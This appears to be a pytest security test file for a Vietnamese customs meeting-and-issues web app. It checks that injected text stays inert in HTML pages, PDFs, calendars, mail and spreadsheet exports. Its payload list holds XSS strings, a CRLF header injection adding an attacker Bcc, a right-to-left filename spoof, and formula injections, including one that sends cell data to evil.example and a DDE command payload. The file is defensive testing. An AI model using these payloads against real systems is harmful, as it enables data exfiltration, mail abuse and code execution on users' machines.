"""Hostile text in every field that leaves the app: pages, PDFs, calendars, mail and spreadsheets.

One matrix: each payload below is typed, through the real forms, into every text field that is shown
again (a business's name, a contact's name, a series' title, place and description, a meeting's title and
place, an issue's title, description, raiser and answer, the minutes' text). Each output is then read back
once with the tool its readers use (an HTML parser, pypdf, icalendar and recurring-ical-events, the email
parser on what a real SMTP server received, csv and openpyxl) and must show the text as text: never as
markup, a header, a recipient, a calendar line or a formula. Text over a field's limit is refused with a
message in Vietnamese and changes nothing.

Names (of a business, a contact) are kept on one line, as the import reads them; other texts keep their line
breaks. A right-to-left override is kept as typed: it is the writer's text, and it reverses what follows it
in its own line (in a page or the PDF), as any reader of that text would see it.
"""

import csv
import io
from datetime import date, datetime, timedelta
from email import policy as email_policy
from email.parser import BytesParser
from html.parser import HTMLParser

import icalendar
import pytest
import recurring_ical_events
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import func, select, text

from dialogue_app import officetime
from dialogue_app.auth.models import User
from dialogue_app.calendar import services as calendar_services
from dialogue_app.extensions import db
from dialogue_app.imports import services as import_services
from dialogue_app.issues.models import Issue
from dialogue_app.mail.models import OutboxMessage
from dialogue_app.mail.services import one_line, send_pending
from dialogue_app.minutes.models import Minutes
from dialogue_app.org.models import Business, Contact
from dialogue_app.scheduling.models import Meeting, Series
from dialogue_app.spreadsheets import FORMULA_START

from .conftest import PASSWORD, free_port, make_app, smtp_server_on, valid_tax_code

LONG = "Dài " * 2500  # 10,000 characters: cut to each field's own limit

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "mail_header": "Tiêu đề\r\nBcc: attacker@example.com",
    "calendar_line": "X\r\nBEGIN:VEVENT",
    "bidi": "Hóa đơn \u202eexe.fdp",  # an override never closed: shown as "Hóa đơn pdf.exe"
    "zero_width": "Cà\u200bphê\ufeffĐà Lạt",
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-1+1",
    "at": "@SUM(A1:A9)",
    "long": LONG,
}

# Each field, with the longest text its form takes.
LIMITS = {
    "business": 255, "contact": 255, "series_title": 255, "series_location": 500, "series_description": 10_000,
    "meeting_title": 255, "meeting_location": 500, "issue_title": 500, "issue_description": 100_000,
    "raised_by": 255, "resolution": 100_000, "minutes_body": 100_000, "minutes_agenda": 100_000,
    "minutes_conclusions": 100_000, "chair": 255,
}

FORMULAS = ("hyperlink", "plus", "minus", "at")

INVISIBLE = dict.fromkeys(map(ord, "\u200b\ufeff\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"))


def typed(key: str, field: str) -> str:
    """What is typed into `field` for payload `key`: the payload and the field's name, or the long text."""
    if key == "long":
        return LONG[:LIMITS[field]].strip()
    return f"{PAYLOADS[key]} ({field})"


ONE_LINE = {"business", "contact", "chair"}  # names: one line, as the import and the signature read them


def stored(key: str, field: str) -> str:
    """What the app keeps of the typed text: names on one line; elsewhere line breaks as typed."""
    text = typed(key, field)
    return flat(text) if field in ONE_LINE else text


def flat(text: str) -> str:
    return " ".join(text.split())


def starts_like_a_formula(text: str) -> bool:
    return text[:1] in FORMULA_START


class Mailbox:
    """A real SMTP server (aiosmtpd) that keeps each message as received: its envelope and its bytes."""

    def __init__(self):
        self.received: list[tuple[list[str], bytes]] = []

    async def handle_DATA(self, server, session, envelope):  # noqa: N802  (aiosmtpd's hook name)
        self.received.append((list(envelope.rcpt_tos), envelope.original_content or envelope.content))
        return "250 OK"


@pytest.fixture(scope="module")
def mailbox():
    handler = Mailbox()
    handler.port = free_port()
    with smtp_server_on(handler.port, handler):
        yield handler


# --- Building the matrix through the forms -------------------------------------------------------------------
#
# Built once for the module, as typing eleven payloads into fifteen fields through the pages is the slow part.
# Every test reads it; the refusals add one issue of their own; the last test (mail) finalises the minutes.

@pytest.fixture(scope="module")
def app(tmp_path_factory, postgres_schema, mailbox):
    from dialogue_app.auth import services as auth_services
    from dialogue_app.issues.models import Topic
    from dialogue_app.issues.topics import default_topic_rows
    from dialogue_app.org import services as org_services

    with pytest.MonkeyPatch.context() as patch:
        patch.delenv("SECRET_KEY", raising=False)
        app = make_app(tmp_path_factory.mktemp("hostile"), postgres_schema, MAIL_SERVER="127.0.0.1",
                       MAIL_PORT=mailbox.port, MAIL_DEFAULT_SENDER="chicuc@haiquan.example.vn")
    with app.app_context():
        general = org_services.create_unit(code="TCHQ", name="Tổng cục Hải quan", level="general", parent=None)
        hcm = org_services.create_unit(code="HCM", name="Cục Hải quan TP. Hồ Chí Minh", level="department",
                                       parent=general)
        branch = org_services.create_unit(code="HCM-A", name="Chi cục Hải quan Khu vực A", level="branch",
                                          parent=hcm)
        db.session.add_all([Topic(**row) for row in default_topic_rows()])
        for email, name in (("mai@haiquan.example.vn", "Nguyễn Thị Mai"), ("long@haiquan.example.vn", "Phạm Văn Long")):
            auth_services.create_user(email=email, name=name, password=PASSWORD, role="organiser", unit=branch)
        db.session.commit()
        yield app
        db.session.remove()
        if postgres_schema:
            tables = ", ".join(t.name for t in db.metadata.sorted_tables)
            with db.engine.begin() as connection:
                connection.execute(text(f"TRUNCATE {tables} RESTART IDENTITY CASCADE"))
        db.engine.dispose()


@pytest.fixture(scope="module")
def client(app):
    client = app.test_client()
    post(client, "/login", {"email": "mai@haiquan.example.vn", "password": PASSWORD})
    return client


def post(client, url, data, expect=302):
    response = client.post(url, data=data)
    assert response.status_code == expect, (url, response.status_code, response.get_data(as_text=True)[-3000:])
    return response


def next_monday(after: date) -> date:
    return after + timedelta(days=7 - after.weekday())


def build_world(client, key: str, index: int, assignee: int) -> dict:
    """Everything for one payload, entered as an officer would, through the pages."""
    tax_code = valid_tax_code()
    post(client, "/businesses/new", {"tax_code": tax_code, "name": typed(key, "business"), "unit": "HCM-A"})
    business = db.session.execute(select(Business).where(Business.tax_code == tax_code)).scalar_one()
    post(client, f"/businesses/{business.id}/contacts",
         {"name": typed(key, "contact"), "email": f"lienhe{index}@doanhnghiep.example.vn"})
    contact = db.session.execute(select(Contact).where(Contact.business_id == business.id)).scalar_one()

    first = next_monday(officetime.today() + timedelta(days=14))
    post(client, "/series/new", {
        "title": typed(key, "series_title"), "kind": "dialogue", "unit": "HCM-A",
        "location": typed(key, "series_location"), "description": typed(key, "series_description"),
        "preset": "weekly", "weekday": "MO", "start_date": first.isoformat(), "start_time": "08:00",
        "duration_minutes": "120", "holiday_policy": "keep", "end": "count", "count": "3",
        "invitees": str(business.id)})
    series = db.session.execute(select(Series).order_by(Series.id.desc())).scalars().first()

    day = officetime.today() - timedelta(days=3)  # held already: its minutes can be finalised
    post(client, "/meetings/new", {
        "title": typed(key, "meeting_title"), "kind": "thematic", "unit": "HCM-A",
        "location": typed(key, "meeting_location"), "date": day.isoformat(), "time": "14:00",
        "duration_minutes": "90"})
    meeting = db.session.execute(select(Meeting).order_by(Meeting.id.desc())).scalars().first()
    post(client, f"/meetings/{meeting.id}/invitations", {"tax_code": tax_code})
    post(client, f"/meetings/{meeting.id}/attendance/contacts/{contact.id}", {"attendance": "present"})

    post(client, "/issues/new", {
        "tax_code": tax_code, "title": typed(key, "issue_title"), "description": typed(key, "issue_description"),
        "topic": "origin", "channel": "meeting", "unit": "HCM-A", "raised_by": typed(key, "raised_by"),
        "meeting_id": str(meeting.id)})
    issue = db.session.execute(select(Issue).order_by(Issue.id.desc())).scalars().first()
    due = (officetime.today() + timedelta(days=7)).isoformat()
    for target, extra in (("assigned", {"assignee": str(assignee), "due_date": due}), ("in_progress", {}),
                          ("answered", {"resolution": typed(key, "resolution"), "legal_basis": "Thông tư 33"})):
        version = db.session.get(Issue, issue.id).version
        post(client, f"/issues/{issue.id}/transition", {
            "target": target, f"{target}-to": target, f"{target}-version": str(version),
            **{f"{target}-{name}": value for name, value in extra.items()}})

    post(client, f"/meetings/{meeting.id}/minutes", {
        "chair": typed(key, "chair"), "secretary": "Lê Thị Thu Trang, công chức", "place_name": "TP. Hồ Chí Minh",
        "closing_time": "16:00", "agenda": typed(key, "minutes_agenda"), "body": typed(key, "minutes_body"),
        "conclusions": typed(key, "minutes_conclusions"), "base_revision": "0"})
    with client.session_transaction() as session:
        session.pop("_flashes", None)  # the redirects were not followed: nobody read them
    return {"key": key, "business": business.id, "contact": contact.id, "series": series.id,
            "meeting": meeting.id, "issue": issue.id}


@pytest.fixture(scope="module")
def worlds(client):
    assignee = db.session.execute(select(User).where(User.email == "long@haiquan.example.vn")).scalar_one()
    return [build_world(client, key, index, assignee.id) for index, key in enumerate(PAYLOADS)]


# --- Pages ---------------------------------------------------------------------------------------------------

class Page(HTMLParser):
    """A page as a browser builds it: its elements (with attributes) and the text a reader sees."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict]] = []
        self.scripts: list[str] = []
        self.shown: list[str] = []
        self._in_script = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        self.elements.append((tag, attributes))
        self._in_script = tag in ("script", "style")
        # Text in form fields (value="…", <textarea>) and in titles is shown too.
        self.shown.extend(v for k, v in attributes.items() if v and k in ("value", "title", "aria-label"))

    def handle_endtag(self, tag):
        if tag in ("script", "style"):
            self._in_script = False

    def handle_data(self, data):
        (self.scripts if self._in_script else self.shown).append(data)

    @property
    def text(self) -> str:
        return flat(" ".join(self.shown))


def assert_inert(html: str, where: str) -> Page:
    """No payload became markup: no event handler, no injected element, no inline script running it."""
    assert "<script>alert(1)" not in html and "<img src=x" not in html, where
    page = Page(html)
    for tag, attributes in page.elements:
        assert not [name for name in attributes if name.startswith("on")], (where, tag, attributes)
        assert not (tag == "img" and attributes.get("src") == "x"), where
        if tag == "script":
            assert attributes.get("src"), (where, "an inline script")
    assert not any("alert(1)" in script for script in page.scripts), where
    return page


def test_pages_show_the_payloads_as_text_and_never_as_markup(client, worlds):
    listings = {"/businesses": ["business"], "/series": ["series_title"], "/issues": ["issue_title"],
                "/agenda?weeks=8": ["series_title"]}
    pages = {
        "/businesses/{business}": ["business", "contact", "series_title"],
        "/series/{series}": ["series_title", "series_location", "series_description", "business"],
        "/series/{series}/edit": ["series_title", "series_location", "series_description"],
        "/meetings/{meeting}": ["meeting_title", "meeting_location", "issue_title", "business", "contact"],
        "/meetings/{meeting}/attendance": ["meeting_title", "business", "contact"],
        "/issues/{issue}": ["issue_title", "issue_description", "raised_by", "resolution", "business"],
        "/meetings/{meeting}/minutes": ["meeting_title", "minutes_body", "minutes_agenda", "minutes_conclusions",
                                        "chair", "issue_title", "contact"],
    }
    shown_in_lists = {url: assert_inert(client.get(url).get_data(as_text=True), url).text for url in listings}
    for world in worlds:
        for url, fields in pages.items():
            url = url.format(**world)
            response = client.get(url)
            assert response.status_code == 200, url
            page = assert_inert(response.get_data(as_text=True), url)
            for field in fields:
                assert flat(typed(world["key"], field)) in page.text, (url, field)
        for url, fields in listings.items():
            for field in fields:
                if world["key"] != "long":  # lists may shorten a long text
                    assert flat(typed(world["key"], field)) in shown_in_lists[url], (url, field)


# --- PDFs ----------------------------------------------------------------------------------------------------

def pdf_text(data: bytes) -> tuple[PdfReader, str]:
    assert data[:5] == b"%PDF-"
    reader = PdfReader(io.BytesIO(data))
    return reader, " ".join(page.extract_text() for page in reader.pages)


def squeezed(text: str) -> str:
    """Text as a PDF reader gets it back: no spaces (lines wrap anywhere in a narrow column), no invisible marks."""
    return "".join(text.translate(INVISIBLE).split())


def assert_in_pdf(typed_text: str, pdf: str, where) -> None:
    if "\u202e" in typed_text:
        # From the override on, the line is drawn right to left, as the writer asked: "exe.fdp" shows as
        # "pdf.exe", and the field's name after it is reversed too (in whichever order pypdf reads it out).
        head, _, tail = typed_text.partition("\u202e")
        field = tail.rpartition("(")[2].rstrip(")")
        assert squeezed(head) in pdf and "pdf.exe" in pdf and (field in pdf or field[::-1] in pdf), where
        return
    assert squeezed(typed_text) in pdf, where


MINUTES_PDF_FIELDS = ("meeting_title", "meeting_location", "chair", "contact", "business", "minutes_agenda",
                      "minutes_body", "minutes_conclusions", "raised_by", "issue_title", "resolution")


def test_pdfs_open_and_hold_the_payloads_as_text(client, worlds):
    for world in worlds:
        key = world["key"]
        response = client.get(f"/meetings/{world['meeting']}/minutes.pdf")
        assert response.status_code == 200 and response.mimetype == "application/pdf"
        reader, text = pdf_text(response.data)
        text = squeezed(text)
        if key == "long":  # 20 pages: every word is there, between the running heads and feet
            printed = (*MINUTES_PDF_FIELDS, "chair", "business")  # the chair signs; the business raised the issue
            assert text.count("Dài") == sum(typed(key, field).count("Dài") for field in printed)
        else:
            for field in MINUTES_PDF_FIELDS:
                assert_in_pdf(typed(key, field), text, (key, field))
        assert flat(typed(key, "meeting_title")) in flat(reader.metadata.title)

        if key in FORMULAS:
            continue  # plain text to a PDF, as the minutes just showed: the sign-in sheet is for the others
        sheet = client.get(f"/meetings/{world['meeting']}/sign-in-sheet.pdf")
        _, text = pdf_text(sheet.data)
        for field in ("meeting_title", "contact", "business"):
            assert_in_pdf(typed(key, field), squeezed(text), (key, "sign-in sheet", field))


# --- Calendars -----------------------------------------------------------------------------------------------

def as_ical_text(text: str) -> str:
    """A text as a calendar gives it back: a line break is a line break (CRLF or LF alike)."""
    return text.replace("\r\n", "\n")


def read_calendar(data: bytes, events: int) -> icalendar.Calendar:
    """Parse, and check that no text opened a VEVENT of its own: exactly `events` of them, line by line too."""
    lines = data.split(b"\r\n")
    assert lines.count(b"BEGIN:VEVENT") == events and lines.count(b"END:VEVENT") == events
    assert all(len(line) <= 75 for line in lines)
    cal = icalendar.Calendar.from_ical(data)
    assert len(cal.walk("VEVENT")) == events and not cal.get_missing_tzids()
    return cal


def test_calendars_carry_the_payloads_as_property_values(client, worlds):
    series_by_id = {world["series"]: world for world in worlds}
    meetings_by_title = {as_ical_text(stored(world["key"], "meeting_title")): world for world in worlds}

    unit_feed = client.get(calendar_services.feed_url("unit", db.session.get(Series, worlds[0]["series"]).unit_id)
                           .replace("http://localhost", ""))
    db.session.commit()
    cal = read_calendar(unit_feed.data, events=2 * len(worlds))  # each series, and each one-off meeting
    for event in cal.walk("VEVENT"):
        if "RRULE" in event:
            world = series_by_id[int(str(event["UID"]).split("@")[0].removeprefix("series-"))]
            assert str(event["SUMMARY"]) == as_ical_text(stored(world["key"], "series_title"))
            assert str(event["LOCATION"]) == as_ical_text(stored(world["key"], "series_location"))
            assert as_ical_text(stored(world["key"], "series_description")) in str(event["DESCRIPTION"])
        else:
            assert str(event["SUMMARY"]) in meetings_by_title
            world = meetings_by_title.pop(str(event["SUMMARY"]))
            assert str(event["LOCATION"]) == as_ical_text(stored(world["key"], "meeting_location"))
    assert meetings_by_title == {}
    today = datetime.combine(officetime.today(), datetime.min.time())
    expanded = recurring_ical_events.of(cal).between(today - timedelta(days=30), today + timedelta(days=120))
    assert len(expanded) == 3 * len(worlds) + len(worlds)  # three meetings in each series, and the one-offs

    for world in worlds:
        feed = client.get(calendar_services.feed_url("series", world["series"]).replace("http://localhost", ""))
        db.session.commit()
        event = read_calendar(feed.data, events=1).walk("VEVENT")[0]
        assert str(event["SUMMARY"]) == as_ical_text(stored(world["key"], "series_title"))
        invite = read_calendar(client.get(f"/meetings/{world['meeting']}/invite.ics").data, events=1)
        assert str(invite.walk("VEVENT")[0]["SUMMARY"]) == as_ical_text(stored(world["key"], "meeting_title"))

    # The invitations mailed to each contact: the contact's name is a parameter (CN), the title a value.
    invitations = db.session.execute(select(OutboxMessage).where(OutboxMessage.calendar_body.is_not(None))
                                     .order_by(OutboxMessage.id)).scalars().all()
    assert len(invitations) == len(worlds)
    for world, message in zip(worlds, invitations, strict=True):
        event = read_calendar(message.calendar_body.encode(), events=1).walk("VEVENT")[0]
        assert str(event["SUMMARY"]) == as_ical_text(stored(world["key"], "series_title"))
        assert event["ATTENDEE"].params["CN"] == as_ical_text(stored(world["key"], "contact"))
        assert str(event["ATTENDEE"]) == f"mailto:lienhe{worlds.index(world)}@doanhnghiep.example.vn"


# --- Spreadsheets --------------------------------------------------------------------------------------------

def escaped(value: str) -> str:
    """A cell as our exports write it: text a spreadsheet would run as a formula gets an apostrophe first."""
    return "'" + value if starts_like_a_formula(value) else value


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_rows(data: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows())
    assert all(cell.data_type != "f" for row in rows for cell in row)  # not one formula
    return [[cell.value for cell in row] for row in rows]


def same_text(cell, value: str) -> bool:
    """The cell holds `value`: a workbook's XML keeps no CR, so a line break reads back as LF alone."""
    return isinstance(cell, str) and cell.replace("\r\n", "\n") == value.replace("\r\n", "\n")


def test_exports_escape_formulas_and_import_back_unchanged(client, worlds):
    businesses = {db.session.get(Business, w["business"]).tax_code: w for w in worlds}
    for rows in (csv_rows(client.get("/businesses/export.csv").data),
                 xlsx_rows(client.get("/businesses/export.xlsx").data)):
        assert len(rows) == 1 + len(worlds)
        for row in rows[1:]:
            key = businesses[row[0]]["key"]
            business = db.session.get(Business, businesses[row[0]]["business"])
            assert (business.name, business.contacts[0].name) == (stored(key, "business"), stored(key, "contact"))
            assert same_text(row[1], escaped(business.name)) and same_text(row[4], escaped(business.contacts[0].name))
            if key in FORMULAS:
                assert row[1].startswith("'") and row[4].startswith("'"), key

    issues = {w["issue"]: w for w in worlds}
    for rows in (csv_rows(client.get("/issues.csv").data), xlsx_rows(client.get("/issues.xlsx").data)):
        mine = [row for row in rows[1:] if int(row[0]) in issues]
        assert len(mine) == len(worlds)
        for row in mine:
            issue = db.session.get(Issue, int(row[0]))
            assert issue.title == stored(issues[issue.id]["key"], "issue_title")
            assert same_text(row[2], escaped(issue.title)) and same_text(row[3], escaped(issue.business.name))

    # The registry reads its own export back as it was: the apostrophes come off, nothing is changed.
    officer = db.session.execute(select(User).where(User.email == "mai@haiquan.example.vn")).scalar_one()
    for filename in ("export.csv", "export.xlsx"):
        upload = import_services.read_upload(filename, client.get(f"/businesses/{filename}").data)
        plan = import_services.plan_import(upload.rows, user=officer, update_existing=True)
        assert plan.ok, [(r.line, [e.code for e in r.errors]) for r in plan.rows if r.errors]
        assert (plan.created, plan.updated, plan.unchanged) == (0, 0, len(worlds)), filename
        assert not plan.new_contacts and not plan.changed_contacts


# --- Too long ------------------------------------------------------------------------------------------------

def over(field: str) -> str:
    return "x" * (LIMITS[field] + 1)


def series_form(world, **change) -> tuple[str, dict]:
    series = db.session.get(Series, world["series"])
    return f"/series/{series.id}/edit", {
        "title": series.title, "kind": series.kind, "unit": "HCM-A", "location": series.location,
        "description": series.description, "preset": "custom", "rule": series.rule,
        "start_date": series.first_start.date().isoformat(), "start_time": "08:00",
        "duration_minutes": str(series.duration_minutes), "holiday_policy": series.holiday_policy, "end": "never",
        "invitees": str(world["business"]), **change}


def issue_form(world, **change) -> tuple[str, dict]:
    return "/issues/new", {"tax_code": db.session.get(Business, world["business"]).tax_code, "title": "Vướng mắc",
                           "description": "Chi tiết", "topic": "origin", "channel": "phone", "unit": "HCM-A", **change}


def answer_form(world) -> tuple[str, dict]:
    """An answer too long for an issue being worked on (one of its own: the matrix's issues stay as they are)."""
    from dialogue_app.issues import services as issue_services
    from dialogue_app.issues.models import Topic

    officer = db.session.execute(select(User).where(User.email == "mai@haiquan.example.vn")).scalar_one()
    business = db.session.get(Business, world["business"])
    issue = issue_services.create_issue(
        title="Vướng mắc đang xử lý", business=business, channel="phone", unit=business.unit, actor=officer,
        topic=db.session.execute(select(Topic).where(Topic.code == "origin")).scalar_one())
    issue.status = "in_progress"
    db.session.commit()
    return f"/issues/{issue.id}/transition", {
        "target": "answered", "answered-to": "answered", "answered-version": str(issue.version),
        "answered-resolution": over("resolution")}


TOO_LONG = {  # field: (url, what the form posts), for the first payload's objects
    "business": lambda w: ("/businesses/new", {"tax_code": valid_tax_code(), "name": over("business"),
                                               "unit": "HCM-A"}),
    "contact": lambda w: (f"/businesses/{w['business']}/contacts", {"name": over("contact")}),
    "series_title": lambda w: series_form(w, title=over("series_title")),
    "series_location": lambda w: series_form(w, location=over("series_location")),
    "series_description": lambda w: series_form(w, description=over("series_description")),
    "meeting_title": lambda w: ("/meetings/new", {
        "title": over("meeting_title"), "kind": "thematic", "unit": "HCM-A", "location": "Phòng họp",
        "date": "2026-12-01", "time": "08:00", "duration_minutes": "60"}),
    "issue_title": lambda w: issue_form(w, title=over("issue_title")),
    "issue_description": lambda w: issue_form(w, description=over("issue_description")),
    "raised_by": lambda w: issue_form(w, raised_by=over("raised_by")),
    "quick_issue_title": lambda w: (f"/meetings/{w['meeting']}/issues", {
        "business": db.session.get(Business, w["business"]).tax_code, "topic": "origin",
        "title": over("issue_title")}),
    "resolution": answer_form,
    "minutes_body": lambda w: (f"/meetings/{w['meeting']}/minutes", {"body": over("minutes_body"),
                                                                      "base_revision": "1"}),
    "chair": lambda w: (f"/meetings/{w['meeting']}/minutes", {"chair": over("chair"), "base_revision": "1"}),
    # Publishing offers the description (up to 100,000 characters) as the public question (up to 20,000).
    "public_question": lambda w: (f"/issues/{w['issue']}/publish", {"public_question": over("public_question"),
                                                                    "public_answer": "Được chấp nhận."}),
}
LIMITS.update(quick_issue_title=LIMITS["issue_title"], public_question=20_000)


def snapshot() -> tuple:
    """What a refused form must leave as it was: the rows, and the texts it would have changed."""
    counts = tuple(db.session.execute(select(func.count()).select_from(model)).scalar_one()
                   for model in (Business, Contact, Series, Meeting, Issue, OutboxMessage, Minutes))
    texts = db.session.execute(select(Series.title, Series.location, Series.description).order_by(Series.id)).all()
    answers = db.session.execute(select(Issue.status, Issue.resolution, Issue.published).order_by(Issue.id)).all()
    return counts, texts, answers


@pytest.mark.parametrize("field", TOO_LONG)
def test_too_long_text_is_refused_with_a_message_in_vietnamese(client, worlds, field):
    url, data = TOO_LONG[field](worlds[0])
    before = snapshot()
    response = client.post(url, data=data, follow_redirects=True)
    assert response.status_code in (200, 422), (field, response.status_code)
    page = assert_inert(response.get_data(as_text=True), url)
    assert f"Tối đa {LIMITS[field]} ký tự" in page.text, (field, page.text[-2000:])  # on the field, or flashed
    assert snapshot() == before
    with client.session_transaction() as session:
        session.pop("_flashes", None)


# --- Mail ----------------------------------------------------------------------------------------------------

HEADERS = {"From", "To", "Subject", "Message-ID", "Date", "MIME-Version", "Content-Type"}


def test_mail_has_one_line_subjects_and_no_injected_headers_or_recipients(client, worlds, mailbox):
    for world in worlds:
        meeting = world["meeting"]
        post(client, f"/meetings/{meeting}/minutes/finalise", {"base_revision": "1"})
        post(client, f"/meetings/{meeting}/minutes/send", {})
        assert db.session.execute(select(Minutes.sent_at).where(Minutes.meeting_id == meeting)).scalar_one()
    queued = db.session.execute(select(OutboxMessage)).scalars().all()
    # For each payload: the invitation, the assignment, the answer, and the minutes.
    assert len(queued) == 4 * len(worlds)
    assert all(ch.isprintable() for m in queued for ch in m.subject)  # no line break, no control character

    report = send_pending(limit=len(queued) + 1)
    assert (report.sent, report.failed, report.dead) == (len(queued), 0, 0)
    assert len(mailbox.received) == len(queued)
    subjects = []
    for recipients, raw in mailbox.received:
        message = BytesParser(policy=email_policy.default).parsebytes(raw)
        names = [name for name, _ in message.raw_items()]
        assert set(names) == HEADERS and len(names) == len(HEADERS), names  # each once, nothing added
        # The envelope goes to the To address only: no Bcc, no header turned recipient.
        assert sorted(recipients) == sorted(a.strip() for a in str(message["To"]).split(","))
        assert not any("attacker" in r for r in recipients)
        subject = str(message["Subject"])
        assert "\r" not in subject and "\n" not in subject
        subjects.append(subject)
        text = message.get_body(("plain",)).get_content()
        assert not text.lstrip().startswith("Bcc:"), "a title's second line spilled out of the subject"
        html = message.get_body(("html",))
        if html is not None:
            assert_inert(html.get_content(), subject)
        for part in message.iter_attachments():
            if part.get_content_type() == "application/pdf":  # read in full by the PDF test
                assert part.get_content()[:5] == b"%PDF-" and len(PdfReader(io.BytesIO(part.get_content())).pages)
    for world in worlds:
        key = world["key"]
        issue_id = world["issue"]
        for field, kind in (("series_title", "invitation"), ("meeting_title", "minutes")):
            expected = one_line(typed(key, field))
            assert any(expected in s for s in subjects), (key, kind)
        title = one_line(typed(key, "issue_title"))[:300]
        about_issue = [s for s in subjects if title in s]
        assert len(about_issue) == 2 and any(f"#{issue_id}" in s for s in about_issue), key  # assigned, answered
